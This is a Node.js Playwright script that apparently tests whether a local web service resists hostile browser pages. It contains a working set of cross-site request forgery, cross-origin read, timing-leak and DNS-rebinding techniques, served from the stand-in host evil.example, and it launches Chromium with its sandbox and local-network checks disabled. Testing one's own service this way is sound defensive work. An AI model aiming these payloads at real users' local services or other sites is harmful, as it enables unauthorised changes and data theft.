// Pages of strangers in a browser at this machine, that try to change and to read everything. Prints what came of it as
// one line of JSON.
//
//   node attack.mjs '{ "as": "stranger", "target": "127.0.0.1:8000", "reads": ["/events"], "media": "/ace/getstream?id=…",
//                      "changes": [{ "method", "path", "query", "body" }] }'
//
// | as | page | is for the browser |
// |---|---|---|
// | stranger | at another port of the same host | `same-site` |
// | | at another name, that leads to this machine as well | `cross-site` |
// | | at a name of a stranger's and our own port, as after DNS rebinding | of our own origin |
// | own | ours, opened in a tab | of our own origin, and may do all of it: otherwise nothing would be proved |
//
// A server that lets everybody do everything gets the same requests, and tells which of them a browser sends.
import { createServer } from 'node:http';
import { chromium } from 'playwright-core';

const plan = JSON.parse(process.argv[2]);
const [host, port] = plan.target.split(':');
const stranger = 'evil.example';

// Runs in the pages. Every try ends, whatever becomes of it, and resolves to what the page could read.
const weapons = `
const soon = (promise) => Promise.race([promise, new Promise((over) => setTimeout(over, 4000))]).catch(() => null);
const read = async (reply) => reply.type === 'opaque' ? await reply.text() : reply.status + ' ' + await reply.text();
const element = (name, properties) => new Promise((over) => {
  const made = Object.assign(document.createElement(name), properties);
  made.onload = made.onerror = made.onloadedmetadata = () => over(made);
  document.head.after(made);
});
const inside = (frame) => { try { return frame.contentDocument.documentElement.innerText || null; } catch { return null; } };
const framed = async (properties) => {
  const frame = await element('iframe', properties);
  const seen = inside(frame);
  frame.remove();
  return seen;
};
const form = (method, enctype, url, fields) => new Promise((over) => {
  const frame = document.createElement('iframe');
  frame.name = 'f' + Math.random();
  const sent = Object.assign(document.createElement('form'), { method, enctype, action: url, target: frame.name });
  for (const [name, value] of Object.entries(fields)) {
    sent.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }));
  }
  document.body.append(frame, sent);
  frame.onload = () => { over(inside(frame)); frame.remove(); sent.remove(); };
  sent.submit();
});
// A browser waits longer before each WebSocket after some that failed: a page tries a few.
let sockets = 3;
const socket = (url) => new Promise((over) => {
  if (sockets-- <= 0) over(null);
  else opens(url, over);
});
const opens = (url, over) => {
  const opened = new WebSocket(url.replace('http', 'ws'));
  opened.onopen = () => over('a websocket opened');
  opened.onmessage = (message) => over(message.data);
  opened.onerror = opened.onclose = () => over(null);
};
const events = (url) => new Promise((over) => {
  const source = new EventSource(url, { withCredentials: true });
  source.onmessage = source.onopen = (event) => { source.close(); over(event.data ?? 'a source opened'); };
  source.onerror = () => { source.close(); over(null); };
});
const xhr = (method, url, body) => new Promise((over) => {
  const asked = new XMLHttpRequest();
  asked.open(method, url);
  asked.withCredentials = true;
  asked.onload = () => over(asked.status + ' ' + asked.responseText);
  asked.onerror = () => over(null);
  if (body) asked.setRequestHeader('Content-Type', 'text/plain');
  asked.send(body);
});

const change = async (base, { method, path, query, body }) => {
  const json = JSON.stringify(body);
  const url = (via) => base + path + '?' + query + '&via=' + via;
  const fields = Object.fromEntries(new URLSearchParams(query));
  // A form's text: one field whose name and value are JSON with the sign between them.
  const trick = { [json.slice(0, -1) + (json === '{}' ? '' : ',') + '"via":"']: '"}' };
  const simple = { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: json };
  const sandboxed = (via) => '<form method=post action="' + url(via) + '"></form><script>document.forms[0].submit()</' + 'script>';
  const tries = {
    fetch: () => fetch(url('fetch'), { method, credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: json }).then(read),
    'fetch-simple': () => fetch(url('fetch-simple'), simple).then(read),
    'fetch-no-cors': () => fetch(url('fetch-no-cors'), { ...simple, mode: 'no-cors' }).then(read),
    'fetch-empty': () => fetch(url('fetch-empty'), { method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true }).then(read),
    'fetch-get': () => fetch(url('fetch-get'), { mode: 'no-cors', credentials: 'include' }).then(read),
    'fetch-redirect': () => fetch('/redirect?' + encodeURIComponent(url('fetch-redirect')), { ...simple, mode: 'no-cors' }).then(read),
    xhr: () => xhr('POST', url('xhr'), json),
    beacon: async () => { navigator.sendBeacon(url('beacon'), new Blob([json], { type: 'text/plain' })); },
    'beacon-json': async () => { navigator.sendBeacon(url('beacon-json'), new Blob([json], { type: 'application/json' })); },
    'form-get': () => form('get', '', base + path, { ...fields, via: 'form-get' }),
    'form-urlencoded': () => form('post', 'application/x-www-form-urlencoded', url('form-urlencoded'), fields),
    'form-multipart': () => form('post', 'multipart/form-data', url('form-multipart'), fields),
    'form-text': () => form('post', 'text/plain', url('form-text'), trick),
    'form-empty': () => form('post', '', url('form-empty'), {}),
    sandbox: () => framed({ sandbox: 'allow-scripts allow-forms', srcdoc: sandboxed('sandbox') }),
    image: () => element('img', { src: url('image') }).then((image) => image.naturalWidth ? 'an image' : null),
    script: () => element('script', { src: url('script') }).then(() => null),
    style: () => element('link', { rel: 'stylesheet', href: url('style') }).then(() => null),
    prefetch: () => element('link', { rel: 'prefetch', href: url('prefetch') }).then(() => null),
    video: () => element('video', { src: url('video') }).then((video) => video.duration ? 'a video' : null),
    iframe: () => framed({ src: url('iframe') }),
    'event-source': () => events(url('event-source')),
    websocket: () => socket(url('websocket')),
  };
  const results = await Promise.all(Object.entries(tries).map(async ([via, go]) => [via, await soon(go())]));
  return results.filter(([, seen]) => seen).map(([via, seen]) => ({ path, via, seen }));
};

const readable = async (base, path) => {
  const url = base + path;
  const tries = {
    fetch: () => fetch(url, { credentials: 'include' }).then(read),
    'no-cors': () => fetch(url, { mode: 'no-cors', credentials: 'include' }).then(read),
    xhr: () => xhr('GET', url),
    iframe: () => framed({ src: url }),
    image: () => element('img', { src: url }).then((image) => image.naturalWidth ? 'an image' : null),
    script: () => element('script', { src: url }).then(() => null),
    'event-source': () => events(url),
    websocket: () => socket(url),
  };
  const results = await Promise.all(Object.entries(tries).map(async ([via, go]) => [via, await soon(go())]));
  // Sizes of replies are kept from pages of other origins, too.
  const sizes = performance.getEntriesByName(url).filter((entry) => entry.encodedBodySize > 0);
  performance.clearResourceTimings();
  const seen = results.filter(([, text]) => text).map(([via, text]) => ({ path, via, seen: text }));
  return sizes.length && !location.href.startsWith(base) ? [...seen, { path, via: 'timing', seen: String(sizes[0].encodedBodySize) }] : seen;
};

const ask = async (base, { method, path, query, body }) => {
  const sent = method === 'GET' ? {} : { body: JSON.stringify(body), headers: { 'Content-Type': 'application/json' } };
  const reply = await fetch(base + path + (query ? '?' + query : ''), { method, ...sent });
  return { method, path, status: reply.status, text: (await reply.text()).slice(0, 300) };
};`;

const page = `<!doctype html><title>evil</title><body><script>${weapons}</script>`;

const listen = (server) => new Promise((over) => server.listen(0, '127.0.0.1', () => over(server.address().port)));

const evil = createServer((request, response) => {
  const [, to] = request.url.split('/redirect?');
  if (to) {
    response.writeHead(307, { Location: decodeURIComponent(to) }).end();
  } else {
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(page);
  }
});
// Browsers ask it before they send what is not simple; it allows everything, so that everything is seen.
const sent = {};
const openServer = createServer((request, response) => {
  const via = new URL(request.url, 'http://open').searchParams.get('via');
  const origin = request.headers.origin ?? '*';
  const open = { 'Access-Control-Allow-Origin': origin, 'Access-Control-Allow-Credentials': 'true',
                 'Access-Control-Allow-Headers': 'content-type', 'Access-Control-Allow-Methods': '*, DELETE, PATCH' };
  if (request.method !== 'OPTIONS') (sent[via] ??= new Set()).add(request.method + ' ' + (request.headers['content-type'] ?? '').split(';')[0]);
  response.writeHead(200, { ...open, 'Content-Type': 'text/plain' }).end('an open secret');
});
openServer.on('upgrade', (request, connection) => {
  const via = new URL(request.url, 'http://open').searchParams.get('via');
  (sent[via] ??= new Set()).add('upgrade');
  connection.end('HTTP/1.1 403 Forbidden\r\n\r\n');
});

const [evilPort, openPort] = [await listen(evil), await listen(openServer)];
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
  // What newer browsers ask their users before a page may talk to this machine at all is switched off: older ones do not.
  args: ['--no-sandbox', '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessChecks',
         `--host-resolver-rules=MAP ${stranger} 127.0.0.1`],
});
const report = { seen: [], media: [] };

const open = async (url) => {
  const tab = await (await browser.newContext()).newPage();
  await tab.goto(url);
  return tab;
};
const change = (tab, base, changes) => tab.evaluate(async ([base, changes]) => {
  const seen = [];
  const left = [...changes];
  const take = async () => {
    for (let one = left.shift(); one; one = left.shift()) seen.push(...await change(base, one));
  };
  await Promise.all([take(), take(), take()]);
  return seen;
}, [base, changes]);
const read = (tab, base, paths) => tab.evaluate(async ([base, paths]) => {
  const seen = [];
  for (const path of paths) seen.push(...await readable(base, path));
  return seen;
}, [base, paths]);
const askAll = (tab, asked) => tab.evaluate(async (asked) => {
  const answers = [];
  for (const one of asked) answers.push(await ask('', one));
  return answers;
}, asked);

const isMirrored = (path) => path.startsWith('/api/v1');

const fromAnotherOrigin = async (name, changes, reads) => {
  const tab = await open(`http://${name}:${evilPort}/`);
  const [lets, target] = [`http://127.0.0.1:${openPort}`, `http://${plan.target}`];
  await change(tab, lets, plan.changes.slice(0, 1));
  report.open = await read(tab, lets, ['/']);
  report.media.push(await tab.evaluate((url) => fetch(url, { method: 'HEAD' }).then((reply) => reply.status), target + plan.media));
  report.seen.push(...await change(tab, target, changes), ...await read(tab, target, reads));
};

// The name has led to the stranger's own server when the page came, and leads here from now on.
const afterRebinding = async () => {
  const tab = await (await browser.newContext()).newPage();
  const origin = `http://${stranger}:${port}`;
  await tab.route(`${origin}/page`, (route) => route.fulfill({ contentType: 'text/html', body: page }));
  await tab.goto(`${origin}/page`);
  await tab.unrouteAll();
  report.rebound = await askAll(tab, [...plan.changes, ...plan.reads.map((path) => ({ method: 'GET', path, query: '' }))]);
  report.reboundSeen = await change(tab, origin, plan.changes.slice(0, 3));
};

const fromOurOwn = async () => {
  // Our answers run no script of anybody's. This one stands for what a page of ours would do.
  const tab = await (await browser.newContext({ bypassCSP: true })).newPage();
  await tab.goto(`http://${plan.target}/livez`);
  await tab.addScriptTag({ content: weapons });
  report.own = await askAll(tab, plan.changes);
};

try {
  if (plan.as === 'own') {
    await fromOurOwn();
  } else {
    // Every page is at two places, and takes its share of the time once.
    const [here, mirrored] = [plan.changes.filter((one) => !isMirrored(one.path)), plan.changes.filter((one) => isMirrored(one.path))];
    await fromAnotherOrigin(host, here, plan.reads);
    await fromAnotherOrigin(stranger, mirrored, plan.reads.map((path) => '/api/v1' + path));
    await afterRebinding();
  }
  report.sent = Object.fromEntries(Object.entries(sent).map(([via, kinds]) => [via, [...kinds].sort()]));
  console.log(JSON.stringify(report));
} finally {
  await browser.close();
  evil.close();
  openServer.close();
}
